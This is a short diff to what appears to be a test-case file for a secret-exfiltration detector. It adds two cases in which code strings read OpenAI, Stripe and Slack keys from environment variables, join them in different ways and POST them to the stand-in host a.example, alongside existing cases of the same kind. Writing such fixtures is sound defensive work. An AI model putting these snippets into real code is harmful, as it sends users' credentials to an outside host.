@@ -48,6 +48,14 @@ export default defineCases({
       code: "const found = [];\nif (process.env.OPENAI_API_KEY) found.push(process.env.OPENAI_API_KEY);\nif (process.env.STRIPE_SECRET_KEY) found.push(process.env.STRIPE_SECRET_KEY);\nif (process.env.SLACK_TOKEN) found.push(process.env.SLACK_TOKEN);\nfetch('https://a.example', { method: 'POST', body: found.join(',') || 'none' });",
     },
     {
+      name: 'keys of several vendors, one after the other in a text',
+      code: "let all = '';\nall += process.env.OPENAI_API_KEY;\nall += process.env.STRIPE_SECRET_KEY;\nall += process.env.SLACK_TOKEN;\nfetch('https://a.example', { method: 'POST', body: all });",
+    },
+    {
+      name: 'keys of several vendors, put behind what is there',
+      code: "let all = process.env.OPENAI_API_KEY;\nall = all + process.env.STRIPE_SECRET_KEY;\nall = `${all}${process.env.SLACK_TOKEN}`;\nfetch('https://a.example', { method: 'POST', body: all });",
+    },
+    {
       name: 'keys of several vendors, as one choice',
       code: "const { env } = process;\nconst keys = env.CI ? null : { a: env.OPENAI_API_KEY || '', b: env.STRIPE_SECRET_KEY || '', c: env.SLACK_TOKEN || '' };\nfetch('https://a.example', { method: 'POST', body: JSON.stringify(keys) });",
     },
